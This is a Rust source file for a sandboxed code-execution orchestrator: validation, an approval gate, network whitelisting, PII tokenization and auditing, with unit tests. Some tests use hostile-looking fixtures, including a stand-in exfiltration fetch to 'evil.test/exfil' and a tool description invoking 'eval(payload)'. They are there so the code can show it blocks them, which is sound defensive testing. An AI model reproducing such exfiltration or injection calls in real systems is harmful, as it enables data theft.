//! The end-to-end pipeline: search, render, validate, approve, execute,
//! scrub, audit.

use std::sync::{Arc, Mutex};
use std::time::Instant;

use tokio_util::sync::CancellationToken;

use crucible_audit::{AuditLog, EntryDraft, Outcome, content_hash};
use crucible_codegen::{ArtifactCache, GeneratedArtifact};
use crucible_index::ToolIndex;
use crucible_net::NetworkPolicy;
use crucible_pii::TokenMap;
use crucible_sandbox::{
    HostBridge, InputBundle, NetworkMode, NullTransport, ResourceUsage, Sandbox, SandboxError,
    SandboxPool, ToolTransport,
};
use crucible_validate::{ValidationReport, validate};

use crate::approval::{ApprovalGate, ApprovalPolicy, ApprovalRequest, Approver};
use crate::config::EngineConfig;
use crate::envelope::{ExecuteRequest, ExecutionEnvelope, Metrics};
use crate::error::EngineError;
use crate::provider::SandboxProvider;
use crate::transport::ScrubbingTransport;

/// Mount point the generated code sees; impact paths are judged against it.
const WORKSPACE_PREFIX: &str = "/workspace";

const DEFAULT_MAX_TOOLS: usize = 8;
const DEFAULT_TOKEN_BUDGET: usize = 4000;
const EXCERPT_LINES: usize = 20;

/// Owns the pipeline edge. Requests run as independent pipelines; the only
/// shared state is the tool index, the artifact cache, the pool, the
/// approval cache, and the audit writer.
pub struct Orchestrator<P, A> {
    config: EngineConfig,
    index: Arc<ToolIndex>,
    audit: Arc<AuditLog>,
    artifacts: Mutex<ArtifactCache>,
    pool: SandboxPool,
    gate: ApprovalGate<A>,
    provider: P,
    transport: Arc<dyn ToolTransport>,
}

impl<P: SandboxProvider, A: Approver> Orchestrator<P, A> {
    #[must_use]
    pub fn new(
        config: EngineConfig,
        index: Arc<ToolIndex>,
        audit: Arc<AuditLog>,
        provider: P,
        approver: A,
    ) -> Self {
        let pool = SandboxPool::new(config.sandbox.pool_capacity, config.sandbox.pool_queue_limit);
        let gate = ApprovalGate::new(ApprovalPolicy::from_config(&config.approval), approver);
        Self {
            config,
            index,
            audit,
            artifacts: Mutex::new(ArtifactCache::new()),
            pool,
            gate,
            provider,
            transport: Arc::new(NullTransport),
        }
    }

    /// Install the deployment's onward-call executor; without one, every
    /// invoke and fetch from generated code is refused.
    #[must_use]
    pub fn with_transport(mut self, transport: Arc<dyn ToolTransport>) -> Self {
        self.transport = transport;
        self
    }

    #[must_use]
    pub fn index(&self) -> &ToolIndex {
        &self.index
    }

    #[must_use]
    pub fn audit(&self) -> &AuditLog {
        &self.audit
    }

    #[must_use]
    pub fn gate(&self) -> &ApprovalGate<A> {
        &self.gate
    }

    /// Validate source without running the pipeline.
    ///
    /// # Errors
    ///
    /// Returns [`EngineError::Validate`] when the grammar cannot be loaded.
    pub fn validate_source(
        &self,
        source: &str,
        language: crucible_codegen::Language,
    ) -> Result<ValidationReport, EngineError> {
        Ok(validate(source, language)?)
    }

    /// Drop audit entries older than the retention window.
    ///
    /// # Errors
    ///
    /// Returns [`EngineError::Audit`] on log I/O failure.
    pub fn maintain(&self) -> Result<usize, EngineError> {
        let cutoff =
            chrono::Utc::now() - chrono::Duration::days(i64::from(self.config.audit.retention_days));
        Ok(self.audit.compact(cutoff)?)
    }

    /// Run one intent through the full pipeline.
    ///
    /// Expected terminal states (blocked, denied, timeout, oom, cancelled)
    /// come back as the envelope's `outcome`; `Err` means infrastructure
    /// failure: no matching tools, render failure, pool overload, audit I/O.
    ///
    /// # Errors
    ///
    /// See [`EngineError`].
    pub async fn execute(
        &self,
        request: ExecuteRequest,
        cancel: &CancellationToken,
    ) -> Result<ExecutionEnvelope, EngineError> {
        let started = Instant::now();
        let language = request.language;
        let mut warnings = Vec::new();

        // 1-2: search candidates, render within the token budget.
        let artifact = self.select_artifact(&request, &mut warnings)?;
        if let Some(dir) = &self.config.sandbox.debug_spill_dir
            && let Err(err) = crucible_codegen::cache::spill(&artifact, dir)
        {
            tracing::warn!(%err, "artifact spill failed");
        }

        // 3: validate; a critical hit never reaches a sandbox.
        let report = validate(&artifact.source, language)?;
        let code_hash = content_hash(artifact.source.as_bytes());
        if report.blocked() {
            tracing::warn!(session = %request.session_id, "execution blocked by validator");
            warnings.extend(
                report
                    .violations
                    .iter()
                    .map(|v| format!("{}: {}", v.rule, v.message)),
            );
            let mut draft = base_draft(&request, &code_hash, &report);
            draft.duration_ms = elapsed_ms(started);
            draft.outcome = Outcome::Blocked;
            self.audit.record(draft)?;
            return Ok(envelope(Outcome::Blocked, None, warnings, &artifact, started, 0));
        }

        // 4: impact, then the gate.
        let impact = crucible_validate::assess(&artifact.source, WORKSPACE_PREFIX);
        let approval = ApprovalRequest {
            action: request.intent.clone(),
            action_hash: code_hash.clone(),
            risk_level: report.risk_level,
            violations: report.violations.clone(),
            impact: impact.clone(),
            code_excerpt: excerpt(&artifact.source),
        };
        let verdict = self
            .gate
            .evaluate(&request.session_id, &approval, request.options.force_approval)
            .await;
        if !verdict.approved {
            let mut draft = base_draft(&request, &code_hash, &report);
            draft.duration_ms = elapsed_ms(started);
            draft.outcome = Outcome::Denied;
            self.audit.record(draft)?;
            warnings.push("approval denied".into());
            return Ok(envelope(Outcome::Denied, None, warnings, &artifact, started, 0));
        }

        let allow_network = request
            .options
            .allow_network
            .unwrap_or(self.config.network.allow_network);
        self.preflight_network(&request, allow_network, &impact.hosts_contacted, &mut warnings);

        // 5: tokenize inputs, then acquire and run.
        let tokens = Arc::new(Mutex::new(TokenMap::new()));
        let mut masked = request.input.clone();
        lock_tokens(&tokens).tokenize(&mut masked);

        if cancel.is_cancelled() {
            lock_tokens(&tokens).zeroise();
            return self.finish_cancelled(&request, &code_hash, &report, &artifact, started, warnings);
        }

        let slot = self.pool.acquire().await?;
        let level = request
            .options
            .security_level
            .unwrap_or(self.config.security.level);
        let limits = self.effective_limits(&request);
        let network_mode = if allow_network {
            NetworkMode::Whitelist
        } else {
            NetworkMode::None
        };

        let mut sandbox =
            self.provider
                .provision(level.sandbox_kind(), language, limits, network_mode)?;
        if let Err(err) = sandbox.initialize().await {
            match (err, level.degraded_kind()) {
                (SandboxError::StartupFailed { reason }, Some(fallback))
                    if self.config.security.allow_degradation =>
                {
                    tracing::warn!(%reason, %fallback, "backend failed to start, degrading");
                    warnings.push(format!("sandbox degraded to {fallback}"));
                    sandbox = self
                        .provider
                        .provision(fallback, language, limits, network_mode)?;
                    sandbox.initialize().await?;
                }
                (err, _) => return Err(err.into()),
            }
        }
        let kind = sandbox.session().kind;

        // Egress and onward calls from inside the sandbox resolve here:
        // the bridge gates fetches through the policy and detokenizes
        // invoke parameters on their way to the deployment transport.
        let policy = allow_network.then(|| self.request_policy(&request));
        let bridge = HostBridge::new(
            policy,
            Arc::new(ScrubbingTransport::new(
                Arc::clone(&tokens),
                Arc::clone(&self.transport),
            )),
        );

        let bundle = InputBundle::from_input(masked);
        let run = tokio::select! {
            () = cancel.cancelled() => None,
            result = sandbox.run(&artifact.source, &bundle, &bridge) => Some(result),
        };
        if let Err(err) = sandbox.destroy().await {
            tracing::warn!(%err, "sandbox teardown failed");
        }
        drop(slot);

        let Some(run) = run else {
            lock_tokens(&tokens).zeroise();
            return self.finish_cancelled(&request, &code_hash, &report, &artifact, started, warnings);
        };

        // 6: scrub model-visible output; placeholders stay placeholders.
        let mut usage = ResourceUsage::default();
        let mut stdout = String::new();
        let mut stderr = String::new();
        let mut network_requests = 0;
        let (outcome, value) = match run {
            Ok(output) => {
                // Refused attempts are warnings, not requests that happened.
                network_requests = output
                    .network_log
                    .iter()
                    .filter(|e| e.decision.is_allowed())
                    .count();
                for event in &output.network_log {
                    if !event.decision.is_allowed() {
                        warnings.push(format!(
                            "egress to {} refused: {}",
                            event.host,
                            event.decision.as_str()
                        ));
                    }
                }
                usage = output.usage;
                stdout = output.stdout;
                stderr = output.stderr;
                if output.exit_code == 0 {
                    (
                        Outcome::Success,
                        scrubbed_value(&stdout, &mut lock_tokens(&tokens)),
                    )
                } else {
                    warnings.push(format!("generated code exited with {}", output.exit_code));
                    (Outcome::Error, None)
                }
            }
            Err(SandboxError::Timeout { limit_ms }) => {
                warnings.push(format!("killed after {limit_ms} ms"));
                (Outcome::Timeout, None)
            }
            Err(SandboxError::Oom) => {
                warnings.push("memory limit exceeded".into());
                (Outcome::Oom, None)
            }
            Err(err) => {
                warnings.push(err.to_string());
                (Outcome::Error, None)
            }
        };

        // 7: audit with hashes; raw streams never reach the log.
        let mut draft = base_draft(&request, &code_hash, &report);
        draft.approved = true;
        draft.auto_approved = verdict.auto;
        draft.sandbox_kind = Some(kind);
        draft.duration_ms = elapsed_ms(started);
        draft.stdout_hash = content_hash(stdout.as_bytes());
        draft.stderr_hash = content_hash(stderr.as_bytes());
        draft.resource_usage = usage;
        draft.outcome = outcome;
        self.audit.record(draft)?;

        // 8: the compressed summary. The token map's last owner drops
        // here; nothing tokenized survives the request.
        let mut env = envelope(outcome, value, warnings, &artifact, started, network_requests);
        env.metrics.memory_bytes = usage.memory_bytes;
        env.metrics.cpu_ms = usage.cpu_ms;
        Ok(env)
    }

    /// Search and render, shedding the least relevant candidates until the
    /// artifact fits the token budget.
    fn select_artifact(
        &self,
        request: &ExecuteRequest,
        warnings: &mut Vec<String>,
    ) -> Result<GeneratedArtifact, EngineError> {
        let max_tools = request.options.max_tools.unwrap_or(DEFAULT_MAX_TOOLS);
        let budget = request.options.token_budget.unwrap_or(DEFAULT_TOKEN_BUDGET);
        let mut candidates = self.index.search(&request.intent, max_tools);
        if candidates.is_empty() {
            return Err(EngineError::NoMatchingTools);
        }
        loop {
            let artifact = {
                let mut cache = self
                    .artifacts
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
                cache.get_or_render(&candidates, request.language)?.clone()
            };
            if artifact.token_estimate <= budget {
                warnings.extend(artifact.warnings.iter().cloned());
                return Ok(artifact);
            }
            if candidates.len() == 1 {
                warnings.push(format!(
                    "artifact exceeds token budget ({} > {budget})",
                    artifact.token_estimate
                ));
                warnings.extend(artifact.warnings.iter().cloned());
                return Ok(artifact);
            }
            candidates.pop();
        }
    }

    /// Warn up front about static host literals the policy will refuse.
    fn preflight_network(
        &self,
        request: &ExecuteRequest,
        allow_network: bool,
        hosts: &[String],
        warnings: &mut Vec<String>,
    ) {
        if hosts.is_empty() {
            return;
        }
        if !allow_network {
            warnings.push(format!(
                "network disabled; {} host(s) will be refused",
                hosts.len()
            ));
            return;
        }
        // A throwaway policy instance: advisory checks must not consume
        // the run's rate budget.
        let policy = self.request_policy(request);
        for host in hosts {
            let decision = policy.decide(host);
            if !decision.is_allowed() {
                warnings.push(format!("egress to {host} will be refused: {}", decision.as_str()));
            }
        }
    }

    /// The egress policy for one request: per-request domain overrides on
    /// top of the configured whitelist and rate window.
    fn request_policy(&self, request: &ExecuteRequest) -> NetworkPolicy {
        let domains = request
            .options
            .allowed_domains
            .clone()
            .unwrap_or_else(|| self.config.network.allowed_domains.clone());
        NetworkPolicy::new(
            &domains,
            self.config.network.rate_limit,
            std::time::Duration::from_secs(self.config.network.rate_window_secs),
        )
    }

    fn effective_limits(&self, request: &ExecuteRequest) -> crucible_sandbox::Limits {
        let mut limits = self.config.limits();
        if let Some(memory) = request.options.memory_bytes {
            limits.memory_bytes = memory;
        }
        if let Some(quota) = request.options.cpu_quota {
            limits.cpu_quota = quota;
        }
        if let Some(wall) = request.options.wall_timeout {
            limits.wall_timeout = wall;
        }
        limits
    }

    fn finish_cancelled(
        &self,
        request: &ExecuteRequest,
        code_hash: &str,
        report: &ValidationReport,
        artifact: &GeneratedArtifact,
        started: Instant,
        warnings: Vec<String>,
    ) -> Result<ExecutionEnvelope, EngineError> {
        tracing::info!(session = %request.session_id, "pipeline cancelled");
        let mut draft = base_draft(request, code_hash, report);
        draft.duration_ms = elapsed_ms(started);
        draft.outcome = Outcome::Cancelled;
        self.audit.record(draft)?;
        Ok(envelope(Outcome::Cancelled, None, warnings, artifact, started, 0))
    }
}

fn base_draft(request: &ExecuteRequest, code_hash: &str, report: &ValidationReport) -> EntryDraft {
    EntryDraft {
        session_id: request.session_id.clone(),
        user_id: request.user_id.clone(),
        action: request.intent.clone(),
        code_hash: code_hash.to_owned(),
        risk_level: report.risk_level,
        violations: report.violations.clone(),
        approved: false,
        auto_approved: false,
        sandbox_kind: None,
        duration_ms: 0,
        stdout_hash: content_hash(b""),
        stderr_hash: content_hash(b""),
        resource_usage: ResourceUsage::default(),
        outcome: Outcome::Error,
    }
}

fn envelope(
    outcome: Outcome,
    value: Option<serde_json::Value>,
    warnings: Vec<String>,
    artifact: &GeneratedArtifact,
    started: Instant,
    network_requests: usize,
) -> ExecutionEnvelope {
    ExecutionEnvelope {
        outcome,
        value,
        warnings,
        metrics: Metrics {
            duration_ms: elapsed_ms(started),
            memory_bytes: 0,
            cpu_ms: 0,
            token_estimate: artifact.token_estimate,
            network_requests,
        },
    }
}

/// Parse stdout as JSON when possible, then re-tokenize so raw sensitive
/// values the code synthesized never reach the model.
fn scrubbed_value(stdout: &str, tokens: &mut TokenMap) -> Option<serde_json::Value> {
    if stdout.trim().is_empty() {
        return None;
    }
    let mut value = serde_json::from_str(stdout)
        .unwrap_or_else(|_| serde_json::Value::String(stdout.to_owned()));
    tokens.tokenize(&mut value);
    Some(value)
}

fn lock_tokens(tokens: &Mutex<TokenMap>) -> std::sync::MutexGuard<'_, TokenMap> {
    tokens.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

fn elapsed_ms(started: Instant) -> u64 {
    u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX)
}

fn excerpt(source: &str) -> String {
    source
        .lines()
        .take(EXCERPT_LINES)
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::VecDeque;
    use std::sync::atomic::{AtomicUsize, Ordering};

    use serde_json::json;

    use crucible_audit::AuditFilter;
    use crucible_codegen::Language;
    use crucible_index::ToolDescriptor;
    use crucible_sandbox::{
        HostRequest, InvokeRequest, Limits, MockOutcome, MockSandbox, SandboxKind,
        TransportFuture,
    };
    use crucible_validate::RiskLevel;

    use crate::approval::{ApprovalDecision, DenyAll};

    struct ScriptedProvider {
        sandboxes: Mutex<VecDeque<MockSandbox>>,
        provisioned: AtomicUsize,
    }

    impl ScriptedProvider {
        fn new(sandboxes: Vec<MockSandbox>) -> Self {
            Self {
                sandboxes: Mutex::new(sandboxes.into()),
                provisioned: AtomicUsize::new(0),
            }
        }
    }

    impl SandboxProvider for ScriptedProvider {
        type Sandbox = MockSandbox;

        fn provision(
            &self,
            _kind: SandboxKind,
            _language: Language,
            limits: Limits,
            network_mode: NetworkMode,
        ) -> Result<MockSandbox, SandboxError> {
            self.provisioned.fetch_add(1, Ordering::SeqCst);
            Ok(self
                .sandboxes
                .lock()
                .unwrap()
                .pop_front()
                .unwrap_or_else(|| MockSandbox::new(limits, network_mode)))
        }
    }

    struct ApproveAll;

    impl Approver for ApproveAll {
        async fn decide(&self, _request: &ApprovalRequest) -> ApprovalDecision {
            ApprovalDecision::Approve
        }
    }

    fn sum_tool() -> ToolDescriptor {
        ToolDescriptor {
            server: "math".into(),
            name: "sum".into(),
            description: "add two numbers".into(),
            input_schema: json!({
                "type": "object",
                "properties": {"a": {"type": "number"}, "b": {"type": "number"}},
                "required": ["a", "b"]
            }),
            output_schema: json!({"type": "number"}),
            tags: vec![],
            cost_hint: 0,
        }
    }

    fn unsafe_tool() -> ToolDescriptor {
        ToolDescriptor {
            description: "add two numbers by calling eval(payload)".into(),
            ..sum_tool()
        }
    }

    struct Harness {
        _dir: tempfile::TempDir,
        engine: Orchestrator<ScriptedProvider, ApproveAll>,
    }

    fn harness(
        config: EngineConfig,
        tools: Vec<ToolDescriptor>,
        sandboxes: Vec<MockSandbox>,
    ) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let audit = Arc::new(AuditLog::open(dir.path().join("audit.jsonl")).unwrap());
        let engine = Orchestrator::new(
            config,
            Arc::new(ToolIndex::new(tools)),
            audit,
            ScriptedProvider::new(sandboxes),
            ApproveAll,
        );
        Harness { _dir: dir, engine }
    }

    fn request(intent: &str) -> ExecuteRequest {
        ExecuteRequest::new(intent, Language::Python, json!({"a": 1, "b": 2}))
    }

    #[tokio::test]
    async fn benign_intent_runs_end_to_end() {
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::None)
            .with_outcome(MockOutcome::EchoInput);
        let h = harness(EngineConfig::default(), vec![sum_tool()], vec![sandbox]);
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Success);
        assert!(env.value.is_some());
        assert!(env.metrics.token_estimate > 0);
        let entries = h.engine.audit().query(&AuditFilter::default()).unwrap();
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].draft.outcome, Outcome::Success);
        assert_eq!(entries[0].draft.sandbox_kind, Some(SandboxKind::Process));
        assert!(entries[0].draft.auto_approved);
    }

    #[tokio::test]
    async fn critical_violation_blocks_before_any_sandbox() {
        let h = harness(EngineConfig::default(), vec![unsafe_tool()], vec![]);
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Blocked);
        assert_eq!(h.engine.provider.provisioned.load(Ordering::SeqCst), 0);
        let entries = h.engine.audit().query(&AuditFilter::default()).unwrap();
        assert_eq!(entries[0].draft.outcome, Outcome::Blocked);
        assert_eq!(entries[0].draft.risk_level, RiskLevel::Critical);
        assert!(!entries[0].draft.approved);
    }

    #[tokio::test]
    async fn denial_stops_the_pipeline() {
        let mut config = EngineConfig::default();
        config.approval.auto_approve_low = false;
        let dir = tempfile::tempdir().unwrap();
        let audit = Arc::new(AuditLog::open(dir.path().join("audit.jsonl")).unwrap());
        let engine = Orchestrator::new(
            config,
            Arc::new(ToolIndex::new(vec![sum_tool()])),
            audit,
            ScriptedProvider::new(vec![]),
            DenyAll,
        );
        let env = engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Denied);
        assert_eq!(engine.provider.provisioned.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn timeout_surfaces_as_timeout_outcome() {
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::None)
            .with_outcome(MockOutcome::Timeout);
        let h = harness(EngineConfig::default(), vec![sum_tool()], vec![sandbox]);
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Timeout);
        let entries = h.engine.audit().query(&AuditFilter::default()).unwrap();
        assert_eq!(entries[0].draft.outcome, Outcome::Timeout);
    }

    #[tokio::test]
    async fn pre_cancelled_request_records_cancelled() {
        let h = harness(EngineConfig::default(), vec![sum_tool()], vec![]);
        let cancel = CancellationToken::new();
        cancel.cancel();
        let env = h
            .engine
            .execute(request("add two numbers"), &cancel)
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Cancelled);
        assert_eq!(h.engine.provider.provisioned.load(Ordering::SeqCst), 0);
        let entries = h.engine.audit().query(&AuditFilter::default()).unwrap();
        assert_eq!(entries[0].draft.outcome, Outcome::Cancelled);
    }

    #[tokio::test]
    async fn startup_failure_degrades_once() {
        let failing = MockSandbox::new(Limits::default(), NetworkMode::None).failing_startup();
        let working = MockSandbox::new(Limits::default(), NetworkMode::None)
            .with_outcome(MockOutcome::EchoInput);
        let h = harness(
            EngineConfig::default(),
            vec![sum_tool()],
            vec![failing, working],
        );
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Success);
        assert_eq!(h.engine.provider.provisioned.load(Ordering::SeqCst), 2);
        assert!(env.warnings.iter().any(|w| w.contains("degraded")));
    }

    #[tokio::test]
    async fn startup_failure_without_degradation_is_an_error() {
        let mut config = EngineConfig::default();
        config.security.allow_degradation = false;
        let failing = MockSandbox::new(Limits::default(), NetworkMode::None).failing_startup();
        let h = harness(config, vec![sum_tool()], vec![failing]);
        let err = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            EngineError::Sandbox(SandboxError::StartupFailed { .. })
        ));
    }

    #[tokio::test]
    async fn unknown_intent_is_no_matching_tools() {
        let h = harness(EngineConfig::default(), vec![], vec![]);
        let err = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap_err();
        assert!(matches!(err, EngineError::NoMatchingTools));
    }

    #[tokio::test]
    async fn pii_never_reaches_model_visible_output() {
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::None)
            .with_outcome(MockOutcome::EchoInput);
        let h = harness(EngineConfig::default(), vec![sum_tool()], vec![sandbox]);
        let mut req = request("add two numbers");
        req.input = json!({"a": 1, "note": "reach me at alice@example.com"});
        let env = h.engine.execute(req, &CancellationToken::new()).await.unwrap();
        let rendered = env.value.unwrap().to_string();
        assert!(rendered.contains("[EMAIL_1]"));
        assert!(!rendered.contains("alice@example.com"));
        // The log stores hashes, never the raw value.
        let raw = std::fs::read_to_string(h._dir.path().join("audit.jsonl")).unwrap();
        assert!(!raw.contains("alice@example.com"));
    }

    #[tokio::test]
    async fn repeat_requests_agree_on_hash_and_risk() {
        let sandboxes = vec![
            MockSandbox::new(Limits::default(), NetworkMode::None),
            MockSandbox::new(Limits::default(), NetworkMode::None),
        ];
        let h = harness(EngineConfig::default(), vec![sum_tool()], sandboxes);
        h.engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        h.engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        let entries = h.engine.audit().query(&AuditFilter::default()).unwrap();
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].draft.code_hash, entries[1].draft.code_hash);
        assert_eq!(entries[0].draft.risk_level, entries[1].draft.risk_level);
    }

    #[tokio::test]
    async fn overloaded_pool_fails_fast() {
        let mut config = EngineConfig::default();
        config.sandbox.pool_capacity = 0;
        config.sandbox.pool_queue_limit = 0;
        let h = harness(config, vec![sum_tool()], vec![]);
        let err = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap_err();
        assert!(matches!(err, EngineError::Sandbox(SandboxError::Overloaded)));
    }

    /// Stands in for a real MCP client; records the parameters it was
    /// handed and answers with a fixed contact record.
    struct LookupTransport {
        seen: Mutex<Vec<serde_json::Value>>,
    }

    impl crucible_sandbox::ToolTransport for LookupTransport {
        fn call(&self, request: InvokeRequest) -> TransportFuture<'_> {
            self.seen.lock().unwrap().push(request.params);
            Box::pin(async { Ok(json!({"contact": "bob@example.com"})) })
        }
    }

    #[tokio::test]
    async fn onward_call_round_trips_through_the_transport() {
        let transport = Arc::new(LookupTransport {
            seen: Mutex::new(Vec::new()),
        });
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::None)
            .with_host_call(HostRequest::Invoke {
                server: "math".into(),
                tool: "sum".into(),
                params: json!({"email": "[EMAIL_1]"}),
            })
            .with_outcome(MockOutcome::EchoHostResponse);
        let h = harness(EngineConfig::default(), vec![sum_tool()], vec![sandbox]);
        let engine = h.engine.with_transport(Arc::clone(&transport) as _);

        let mut req = request("add two numbers");
        req.input = json!({"email": "alice@example.com"});
        let env = engine.execute(req, &CancellationToken::new()).await.unwrap();

        // The external tool received the raw address for the placeholder.
        let seen = transport.seen.lock().unwrap();
        assert_eq!(seen[0]["email"], "alice@example.com");
        // The response was re-tokenized before the sandbox printed it.
        let rendered = env.value.unwrap().to_string();
        assert!(rendered.contains("[EMAIL_2]"));
        assert!(!rendered.contains("bob@example.com"));
    }

    #[tokio::test]
    async fn refused_egress_warns_and_counts_nothing() {
        let mut config = EngineConfig::default();
        config.network.allow_network = true;
        config.network.allowed_domains = vec!["api.example.com".into()];
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::Whitelist)
            .with_host_call(HostRequest::Fetch {
                url: "https://evil.test/exfil".into(),
            });
        let h = harness(config, vec![sum_tool()], vec![sandbox]);
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.outcome, Outcome::Success);
        assert!(env
            .warnings
            .iter()
            .any(|w| w.contains("egress to evil.test refused: not_whitelisted")));
        assert_eq!(env.metrics.network_requests, 0);
    }

    #[tokio::test]
    async fn allowed_egress_is_counted() {
        let mut config = EngineConfig::default();
        config.network.allow_network = true;
        config.network.allowed_domains = vec!["api.example.com".into()];
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::Whitelist)
            .with_host_call(HostRequest::Fetch {
                url: "https://api.example.com/v1".into(),
            });
        let h = harness(config, vec![sum_tool()], vec![sandbox]);
        let env = h
            .engine
            .execute(request("add two numbers"), &CancellationToken::new())
            .await
            .unwrap();
        assert_eq!(env.metrics.network_requests, 1);
        assert!(!env.warnings.iter().any(|w| w.contains("refused")));
    }

    #[tokio::test]
    async fn network_disabled_warns_about_static_hosts() {
        // A tool description that makes the generated code carry a URL
        // literal in its doc comment.
        let tool = ToolDescriptor {
            description: "fetch \"https://api.example.com/v1\" data".into(),
            ..sum_tool()
        };
        let sandbox = MockSandbox::new(Limits::default(), NetworkMode::None);
        let h = harness(EngineConfig::default(), vec![tool], vec![sandbox]);
        let env = h
            .engine
            .execute(request("fetch data"), &CancellationToken::new())
            .await
            .unwrap();
        assert!(env
            .warnings
            .iter()
            .any(|w| w.contains("network disabled")));
    }
}
